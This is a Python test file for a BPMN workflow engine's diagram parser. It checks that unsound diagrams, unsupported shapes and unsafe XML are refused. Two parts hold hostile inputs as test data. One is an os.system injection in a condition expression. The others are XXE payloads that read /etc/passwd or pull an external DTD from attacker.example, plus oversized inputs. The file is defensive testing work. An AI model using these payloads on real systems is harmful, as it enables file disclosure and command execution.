"""Reading diagrams: what they hold, what is refused with its place, and what nobody gets the engine to read."""

from pathlib import Path

import pytest

from engine.process import DiagramRefused, Diagrams, UnknownElement
from engine.xml import XmlRefused, parse_xml
from tests.unit.process.lives import FOLDER, diagrams_of

FILING = (Path(__file__).parent / "drawn" / "filing.bpmn").read_bytes()
LOOP = (FOLDER / "return_loop.bpmn").read_text()


def with_change(before: str, after: str) -> dict[str, bytes]:
    assert before in LOOP
    return {"return_loop.bpmn": LOOP.replace(before, after).encode()}


def test_sound_diagrams_are_read() -> None:
    diagrams = Diagrams.parse({"filing.bpmn": FILING}, operations={"note"})

    assert diagrams.process_ids == ("filing",)
    assert diagrams.files == {"filing.bpmn": FILING}


def test_what_the_lint_finds_is_told_with_file_and_line() -> None:
    with pytest.raises(DiagramRefused, match="filing.bpmn第6行") as refused:
        Diagrams.parse({"filing.bpmn": FILING.replace("预算单位经办人".encode(), "某人".encode())})

    assert refused.value.facts["findings"][0].severity == "error"


def test_an_operation_the_engine_does_not_have_is_refused() -> None:
    with pytest.raises(DiagramRefused, match="note"):
        Diagrams.parse({"filing.bpmn": FILING}, operations={"mark_overdue"})


def test_a_stricter_lint_does_not_lock_out_cases_on_diagrams_already_in_service() -> None:
    unsound_today = FILING.replace("预算单位经办人".encode(), "某人".encode())

    assert Diagrams.stored({"filing.bpmn": unsound_today}).process_ids == ("filing",)


def test_an_element_tells_its_name_office_kind_and_properties() -> None:
    element = diagrams_of().element("return_loop", "mark_late")

    assert (element.name, element.kind, element.lane) == ("标记逾期", "serviceTask", "预算单位经办人")
    assert element.properties == {"operation": "mark_overdue"}
    assert diagrams_of().element("decision", "grade_rule").properties == {"decision": "grade"}


def test_what_is_drawn_inside_a_sub_process_belongs_to_the_diagram_and_inherits_the_lane() -> None:
    diagrams = diagrams_of()

    assert diagrams.element("parallel_review", "review_money").lane == "财政绩效股"
    assert "joint_review" not in diagrams.process_ids


def test_elements_come_in_the_order_of_the_diagram() -> None:
    ids = [element.id for element in Diagrams.stored({"filing.bpmn": FILING}).elements("filing")]

    assert ids[:4] == ["filing_opened", "fill_filing", "note_filing", "filed"]


def test_an_unknown_element_is_refused() -> None:
    with pytest.raises(UnknownElement, match="没有“nowhere”这一步"):
        diagrams_of("race").element("race", "nowhere")


def test_the_hash_tells_contents_and_names_apart_but_not_their_order() -> None:
    one, other = (FOLDER / "race.bpmn").read_bytes(), (FOLDER / "decision.bpmn").read_bytes()

    assert Diagrams.stored({"a": one, "b": other}).hash == Diagrams.stored({"b": other, "a": one}).hash
    assert Diagrams.stored({"a": one, "b": other}).hash != Diagrams.stored({"a": other, "b": one}).hash
    assert Diagrams.stored({"a": one}).hash != Diagrams.stored({"a": one + b"\n"}).hash


SCRIPT = "</spiffworkflow:properties><spiffworkflow:preScript>x=1</spiffworkflow:preScript></bpmn:extensionElements>"
CLOSING = "</bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>"
ITEMS = "<bpmn:multiInstanceLoopCharacteristics%s><bpmn:loopCardinality>3</bpmn:loopCardinality>%s"


@pytest.mark.parametrize(
    ("before", "after", "why"),
    [
        ("</spiffworkflow:properties>\n      </bpmn:extensionElements>", SCRIPT, "脚本"),
        ("outcome == 'returned'", "__import__('os').system('id')", "不被允许"),
        ("outcome == 'returned'", "outcome ==", "写法有误"),
        ("deadline('target_filing.fill')", "'PT1S'", "deadline"),
        ("deadline('target_filing.fill')", "deadline(name)", "deadline"),
        ("bpmn:timeDate", "bpmn:timeCycle", "timeDate"),
        ("bpmn:serviceTask", "bpmn:scriptTask", "不支持的图形（scriptTask）"),
        ("bpmn:serviceTask", "bpmn:sendTask", "不支持的图形（sendTask）"),
        ("bpmn:exclusiveGateway", "bpmn:inclusiveGateway", "不支持的图形（inclusiveGateway）"),
        ('messageEventDefinition messageRef="return_loop_withdrawn"', "signalEventDefinition", "signal"),
        ('messageRef="return_loop_withdrawn"', 'messageRef="nowhere"', "消息"),
        (' name="通过" />', "><bpmn:errorEventDefinition /></bpmn:endEvent>", "终止"),
        ('targetRef="approved"', 'targetRef="nowhere"', "连线指向的步骤不存在"),
        ('sourceRef="mark_late"', 'sourceRef="fill"', "多条流出"),
        ("outcome == 'returned'</bpmn:conditionExpression>", "</bpmn:conditionExpression>", "没有条件"),
        ("</bpmn:userTask>", '<bpmn:standardLoopCharacteristics loopMaximum="3" /></bpmn:userTask>', "循环标记"),
        ("</bpmn:userTask>", ITEMS % (' isSequential="true"', CLOSING), "顺序多实例"),
        ("</bpmn:userTask>", ITEMS % ("", CLOSING), "loopDataInputRef"),
    ],
)
def test_shapes_the_engine_would_run_wrongly_are_refused_even_without_the_lint(
    before: str, after: str, why: str
) -> None:
    with pytest.raises(DiagramRefused, match=why):
        Diagrams.stored(with_change(before, after))


def test_a_refusal_names_file_line_and_element() -> None:
    with pytest.raises(DiagramRefused) as refused:
        Diagrams.stored(with_change("deadline('target_filing.fill')", "'2026-01-01'"))

    facts = refused.value.facts
    assert (facts["file"], facts["element"]) == ("return_loop.bpmn", "fill_late")
    assert 'id="fill_late"' in LOOP.splitlines()[facts["line"] - 1]


def test_a_called_process_must_exist() -> None:
    with pytest.raises(DiagramRefused, match="被调用的流程“signature”不存在"):
        diagrams_of("approval")


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
        b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16"),
        b"<a>",
        b"",
        b"not xml",
        b"<a>" * 300 + b"</a>" * 300,
        b"<a>" + b" " * (2 * 1024 * 1024) + b"</a>",
    ],
)
def test_harmful_or_broken_xml_is_refused(content: bytes) -> None:
    with pytest.raises(XmlRefused):
        parse_xml("upload.bpmn", content)
